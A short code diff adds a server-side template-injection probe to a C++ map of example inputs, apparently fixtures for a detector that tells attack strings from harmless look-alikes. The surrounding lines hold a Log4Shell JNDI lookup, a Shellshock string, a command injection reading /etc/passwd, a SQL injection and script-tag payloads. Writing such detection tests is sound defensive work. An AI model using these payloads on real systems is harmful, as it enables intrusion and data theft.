@@ -46,6 +46,7 @@ std::map<std::string, Example> Examples() {
       {"script_eval", {"eval(atob('x'))", "evaluation"}},
       {"script_tag", {"<script src=//x.example>", "scripts"}},
       {"jndi_lookup", {"${jndi:ldap://192.0.2.1/a}", "jndi"}},
+      {"template_expression", {"{{7*7}}", "{{name}}"}},
       {"shellshock", {"() { :; }; x", "() {"}},
       {"shell_command", {"; cat /etc/passwd", "a cat"}},
       {"sql_injection", {"' OR '1'='1", "this or that"}},
